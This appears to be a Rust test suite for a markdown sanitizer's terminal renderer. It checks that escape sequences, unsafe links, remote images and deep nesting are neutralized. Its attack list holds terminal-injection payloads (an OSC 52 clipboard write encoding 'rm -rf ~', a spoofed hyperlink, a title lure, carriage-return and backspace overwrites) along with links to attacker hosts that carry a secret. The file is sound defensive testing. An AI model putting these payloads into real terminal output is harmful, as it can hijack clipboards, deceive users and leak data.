//! The terminal renderer: no control character or escape sequence of the input reaches the
//! terminal, in any markdown construct, under any styling; links show where they point.
//!
//! The checks read the output character by character: in plain output the only control
//! character is `\n`; in styled output every ESC starts one of safemark's own sequences (an SGR
//! code, or an OSC 8 hyperlink to a URL the policy trusts).

use proptest::prelude::*;
use safemark::{FindingKind, Policy, Sanitizer, TerminalOptions};

const TRUSTED: &str = "https://docs.example.com/";

fn sanitizer() -> Sanitizer {
    Sanitizer::new(
        Policy::from_json(&format!(r#"{{"links": {{"allow": ["{TRUSTED}"]}}}}"#)).unwrap(),
    )
    .unwrap()
}

fn is_control(c: char) -> bool {
    c.is_control() || matches!(c, '\u{2028}' | '\u{2029}')
}

/// The problems in plain output: any control character but `\n` and `\t` (a tab only moves
/// to the next tab stop).
fn plain_problems(text: &str) -> Vec<String> {
    text.char_indices()
        .filter(|&(_, c)| is_control(c) && c != '\n' && c != '\t')
        .map(|(i, c)| format!("{:?} at {i}", c))
        .collect()
}

/// The problems in styled output: an ESC that does not start `ESC [ digits m` or an OSC 8 to
/// a trusted URL (or the closing `ESC ]8;; ESC \`), or any other control character but `\n`
/// and `\t`.
fn styled_problems(text: &str) -> Vec<String> {
    let mut problems = Vec::new();
    let mut rest = text;
    while let Some(i) = rest.find(|c: char| is_control(c) && c != '\n' && c != '\t') {
        let (c, after) = (rest[i..].chars().next().unwrap(), &rest[i..]);
        if c != '\x1b' {
            problems.push(format!("control {c:?}"));
            rest = &rest[i + c.len_utf8()..];
            continue;
        }
        let len = if let Some(sgr) = after.strip_prefix("\x1b[") {
            let digits = sgr.bytes().take_while(u8::is_ascii_digit).count();
            (digits > 0 && sgr[digits..].starts_with('m')).then_some(2 + digits + 1)
        } else if let Some(osc) = after.strip_prefix("\x1b]8;;") {
            osc.find("\x1b\\").and_then(|end| {
                let url = &osc[..end];
                let ok = url.is_empty()
                    || (url.starts_with(TRUSTED) && url.bytes().all(|b| (0x21..0x7f).contains(&b)));
                ok.then_some(5 + end + 2)
            })
        } else {
            None
        };
        match len {
            Some(n) => rest = &after[n..],
            None => {
                problems.push(format!("escape {:?}", &after[..after.len().min(24)]));
                rest = &after[1..];
            }
        }
    }
    problems
}

/// The attacks, written literally and as character references.
const ATTACKS: &[(&str, &str)] = &[
    ("clipboard (OSC 52)", "\x1b]52;c;cm0gLXJmIH4K\x07"),
    (
        "hyperlink (OSC 8)",
        "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\",
    ),
    ("clear screen (CSI 2J)", "\x1b[2J\x1b[H"),
    ("window title (OSC 0)", "\x1b]0;sudo password\x07"),
    ("bare carriage return", "rm -rf ~\rls     "),
    ("C1 CSI", "\u{9b}2J"),
    ("C1 OSC", "\u{9d}52;c;AAAA\u{9c}"),
    ("C1 DCS", "\u{90}q\u{9c}"),
    ("entity ESC", "&#27;[2J"),
    ("entity C1", "&#x9b;31m"),
    ("backspace", "good\x08\x08\x08\x08evil"),
    ("bell", "\x07\x07"),
];

/// Places `attack` in every construct a terminal renders.
fn placements(attack: &str) -> Vec<String> {
    [
        "{}",
        "# heading {}",
        "- item {}\n- two",
        "> quote {}",
        "| a | b |\n|---|---|\n| {} | x |",
        "[link {}](https://docs.example.com/x)",
        "[link](https://evil.example/{})",
        "![alt {}](https://img.example/x.png)",
        "```\ncode {}\n```",
        "`{}`",
        "<div>{}</div>",
        "text[^n]\n\n[^n]: note {}",
        "**bold {}**",
    ]
    .iter()
    .map(|p| p.replace("{}", attack))
    .collect()
}

#[test]
fn no_escape_sequence_of_the_input_reaches_the_terminal() {
    let s = sanitizer();
    let mut checked = 0;
    for (name, attack) in ATTACKS {
        for md in placements(attack) {
            let plain = s.render_terminal(&md, TerminalOptions::plain()).unwrap();
            assert_eq!(
                plain_problems(&plain.text),
                Vec::<String>::new(),
                "{name} in {md:?}: {:?}",
                plain.text
            );
            let styled = s.render_terminal(&md, TerminalOptions::styled()).unwrap();
            assert_eq!(
                styled_problems(&styled.text),
                Vec::<String>::new(),
                "{name} in {md:?}: {:?}",
                styled.text
            );
            // Bare `\r` is a line ending in markdown; everywhere else the neutralized control
            // is reported. (A URL is percent-encoded by the parser; the link is reported. In
            // code and raw HTML, shown as written, a character reference is the text `&#27;`.)
            let in_code = md.contains('`') || md.starts_with("<div>");
            let exempt = name.contains("carriage")
                || md.contains("evil.example/")
                || (name.starts_with("entity") && in_code);
            if !exempt {
                assert!(
                    plain
                        .findings
                        .iter()
                        .any(|f| f.kind == FindingKind::ControlCharacter),
                    "{name} in {md:?}: no finding"
                );
            }
            checked += 1;
        }
    }
    assert_eq!(checked, ATTACKS.len() * 13);
}

#[test]
fn controls_are_made_visible_not_silently_dropped() {
    let s = sanitizer();
    let out = s
        .render_terminal("a \x1b[2J b \u{9b}1m c\x07", TerminalOptions::plain())
        .unwrap();
    assert_eq!(out.text, "a ␛[2J b <U+009B>1m c␇\n");
    // A bare `\r` inside code (where markdown keeps it) is shown, not obeyed.
    let out = s
        .render_terminal("```\nsafe\rEVIL\n```", TerminalOptions::plain())
        .unwrap();
    assert!(!out.text.contains('\r'), "{:?}", out.text);
    assert!(
        out.text.contains("safe") && out.text.contains("EVIL"),
        "{:?}",
        out.text
    );
}

#[test]
fn links_show_where_they_point_and_only_trusted_ones_are_hyperlinks() {
    let s = sanitizer();
    let md = "[docs](https://docs.example.com/guide) and [prize](https://evil.example/p?d=SECRET) and [home](https://evil.example/)";
    let plain = s.render_terminal(md, TerminalOptions::plain()).unwrap();
    assert_eq!(
        plain.text,
        "docs (https://docs.example.com/guide) and prize (evil.example…) and home (evil.example)\n"
    );
    assert!(!plain.text.contains("SECRET"));
    let styled = s.render_terminal(md, TerminalOptions::styled()).unwrap();
    assert!(
        styled
            .text
            .contains("\x1b]8;;https://docs.example.com/guide\x1b\\"),
        "{:?}",
        styled.text
    );
    assert_eq!(
        styled.text.matches("\x1b]8;;").count(),
        2,
        "one hyperlink opened and closed: {:?}",
        styled.text
    );
    assert!(!styled.text.contains("evil.example/p"), "{:?}", styled.text);
    assert!(styled_problems(&styled.text).is_empty());
    // Plain text by default: no escape at all.
    assert!(!plain.text.contains('\x1b'));
    // A lookalike host is shown in punycode.
    let out = s
        .render_terminal(
            "[bank](https://ex\u{430}mple.com/login)",
            TerminalOptions::plain(),
        )
        .unwrap();
    assert_eq!(out.text, "bank (xn--exmple-4nf.com…)\n");
    // A script link keeps its text and shows nothing else.
    let out = s
        .render_terminal("[x](javascript:alert(1))", TerminalOptions::plain())
        .unwrap();
    assert_eq!(out.text, "x\n");
    assert_eq!(out.findings[0].kind, FindingKind::UnsafeScheme);
}

#[test]
fn images_are_their_alt_text() {
    let s = sanitizer();
    let out = s
        .render_terminal(
            "see ![the chart](https://attacker.example/p.png?d=SECRET) and ![](x.png)",
            TerminalOptions::plain(),
        )
        .unwrap();
    assert_eq!(out.text, "see [image: the chart] and [image]\n");
    assert!(out
        .findings
        .iter()
        .all(|f| f.kind == FindingKind::BlockedImage));
}

#[test]
fn structure_stays_readable() {
    let s = sanitizer();
    let md = "# Plan\n\nSome **bold** and `code`.\n\n1. one\n2. two\n   - nested\n   - [x] done\n\n> quoted\n\n```sh\nls -la\n```\n\n| name | size |\n|---|---|\n| a.txt | 12 |\n\n---\n";
    let out = s.render_terminal(md, TerminalOptions::plain()).unwrap();
    let notes = s
        .render_terminal(
            "a[^n]\n\n[^n]: the note\n\n[^e]:\n\nafter",
            TerminalOptions::plain(),
        )
        .unwrap();
    assert_eq!(notes.text, "a[n]\n\n[n]: the note\n\n[e]: \n\nafter\n");
    let want = "# Plan\n\nSome bold and `code`.\n\n1. one\n2. two\n   - nested\n   - [x] done\n\n> quoted\n\n[sh]\n    ls -la\n\nname  | size\n----- | ----\na.txt | 12\n\n────────────────────────\n";
    assert_eq!(out.text, want);
    assert!(out.findings.is_empty());
}

#[test]
fn limits_apply() {
    let s = Sanitizer::new(Policy::from_json(r#"{"limits": {"max_input_bytes": 10}}"#).unwrap())
        .unwrap();
    assert!(s
        .render_terminal("01234567890", TerminalOptions::plain())
        .is_err());
    // Deep nesting does not grow every line without bound.
    let deep = format!("{}x", "> ".repeat(5000));
    let out = sanitizer()
        .render_terminal(&deep, TerminalOptions::plain())
        .unwrap();
    assert!(out.text.len() < 200, "{}", out.text.len());
    // Lazy continuation lines under deep nesting: each line's prefix is bounded.
    let mut nested: String = (0..40)
        .map(|i| format!("{}1. a\n", "   ".repeat(i)))
        .collect();
    nested.push_str(&"x\n".repeat(20000));
    for deep in [
        nested,
        format!("{}a\n{}", "> ".repeat(40), "x\n".repeat(20000)),
    ] {
        let out = sanitizer()
            .render_terminal(&deep, TerminalOptions::plain())
            .unwrap();
        assert!(
            out.text.len() <= 24 * deep.len(),
            "{} bytes for {}",
            out.text.len(),
            deep.len()
        );
        assert!(out
            .findings
            .iter()
            .any(|f| f.kind == FindingKind::NestingLimit));
    }
    // A table whose padding would multiply its size is written unaligned.
    for deep in [
        format!(
            "| a | b |\n|---|---|\n| {} | y |\n{}",
            "x".repeat(10000),
            "| | |\n".repeat(5000)
        ),
        format!(
            "|{}\n|{}\n{}",
            "a|".repeat(1000),
            "-|".repeat(1000),
            "a\n".repeat(3000)
        ),
    ] {
        let out = sanitizer()
            .render_terminal(&deep, TerminalOptions::plain())
            .unwrap();
        assert!(
            out.text.len() <= 4 * deep.len() + 4096,
            "{} bytes for {}",
            out.text.len(),
            deep.len()
        );
    }
    // Deeply nested emphasis, styled: each end re-applies each open style once, not once per
    // open level (which made 40 KB of input 200 MB of output).
    for deep in [
        format!("{}a{}", "*".repeat(20000), "*".repeat(20000)),
        format!("{}x{}", "*a_b~~c".repeat(3000), "~~_*".repeat(3000)),
    ] {
        let out = sanitizer()
            .render_terminal(&deep, TerminalOptions::styled())
            .unwrap();
        assert!(
            out.text.len() <= 8 * deep.len() + 4096,
            "{} bytes for {}",
            out.text.len(),
            deep.len()
        );
    }
}

fn piece() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("\x1b".to_string()),
        Just("\x1b[".to_string()),
        Just("\x1b]8;;".to_string()),
        Just("\x1b\\".to_string()),
        Just("\x07".to_string()),
        Just("\r".to_string()),
        Just("\r\n".to_string()),
        Just("\n".to_string()),
        Just("\n\n".to_string()),
        Just("\u{9b}".to_string()),
        Just("\u{9d}".to_string()),
        Just("&#27;".to_string()),
        Just("&#x9b;".to_string()),
        Just("&#x7f;".to_string()),
        Just("`".to_string()),
        Just("```\n".to_string()),
        Just("# ".to_string()),
        Just("- ".to_string()),
        Just("> ".to_string()),
        Just("| a | b |\n|---|---|\n".to_string()),
        Just("[t](https://docs.example.com/x)".to_string()),
        Just("[t](https://evil.example/x)".to_string()),
        Just("[".to_string()),
        Just("](https://docs.example.com/".to_string()),
        Just(")".to_string()),
        Just("![a".to_string()),
        Just("<b>".to_string()),
        Just("**".to_string()),
        "[a-z0-9 ]{0,8}",
        any::<char>().prop_map(|c| c.to_string()),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(
        std::env::var("PROPTEST_CASES").ok().and_then(|v| v.parse().ok()).unwrap_or(512)
    ))]

    #[test]
    fn any_input_is_terminal_safe(pieces in prop::collection::vec(piece(), 0..40)) {
        let md: String = pieces.concat();
        let s = sanitizer();
        let plain = s.render_terminal(&md, TerminalOptions::plain()).unwrap();
        prop_assert_eq!(plain_problems(&plain.text), Vec::<String>::new(), "{:?} -> {:?}", md, plain.text);
        let styled = s.render_terminal(&md, TerminalOptions::styled()).unwrap();
        prop_assert_eq!(styled_problems(&styled.text), Vec::<String>::new(), "{:?} -> {:?}", md, styled.text);
    }
}

/// One judge for every output: the terminal's findings are exactly the markdown stage's (under
/// `raw_html: "escape"`, where raw HTML is text in both), but for the control characters a
/// terminal makes visible and the prefixes its layout flattens. Over the CommonMark and GFM
/// spec examples, the corpus vectors and the peers' vectors, under four policies. Before the
/// terminal consumed judged events it judged `<user@host>` as a relative path and judged
/// links and images inside an image's alt text, which this finds.
#[test]
fn terminal_and_html_report_the_same_judgements() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
    let json = |p: &str| -> serde_json::Value {
        serde_json::from_str(&std::fs::read_to_string(root.join(p)).unwrap()).unwrap()
    };
    let mut docs: Vec<String> = Vec::new();
    for file in [
        "tests/corpora/commonmark_spec.json",
        "tests/corpora/gfm_spec.json",
    ] {
        for case in json(file).as_array().unwrap() {
            docs.push(case["markdown"].as_str().unwrap().to_string());
        }
    }
    for case in json("tests/corpora/peer_vectors.json").as_array().unwrap() {
        docs.extend(case["input"].as_str().map(str::to_string));
    }
    for case in json("tests/corpus/vectors.json")["cases"]
        .as_array()
        .unwrap()
    {
        docs.extend(case["input"].as_str().map(str::to_string));
    }
    docs.push("deep: ".to_string() + &"> ".repeat(40) + "x\n\n" + &"- ".repeat(40) + "y");
    docs.push("![a ![b](https://evil.example/b.png) [c](javascript:x)](https://evil.example/a.png) <a@b.example> \u{202E}x\u{E0041} [^n]\n\n[^n]: note".to_string());
    let policies = [
        r#"{"raw_html": "escape"}"#,
        r#"{"raw_html": "escape", "links": {"allow": ["https://docs.example.com/", "mailto:"], "untrusted": "confirm"}, "images": {"allow": ["https://img.example.com/"]}}"#,
        r#"{"raw_html": "escape", "links": {"allow": ["*"], "untrusted": "url"}, "id_prefix": "m-"}"#,
        r#"{"raw_html": "escape", "limits": {"max_nesting": 3}}"#,
    ];
    let mut compared = 0;
    for policy in policies {
        let s = Sanitizer::new(Policy::from_json(policy).unwrap()).unwrap();
        for doc in &docs {
            let html = s.render_markdown(doc).unwrap().findings;
            let mut terminal = s
                .render_terminal(doc, TerminalOptions::plain())
                .unwrap()
                .findings;
            // The terminal's own: controls made visible, prefixes its layout flattened (these
            // carry no input range; the judge's nesting finding does).
            terminal.retain(|f| {
                f.kind != FindingKind::ControlCharacter
                    && !(f.kind == FindingKind::NestingLimit && f.range.is_none())
            });
            assert_eq!(terminal, html, "{policy}\n{doc:?}");
            compared += 1;
        }
    }
    assert!(compared > 5000, "{compared}");
}
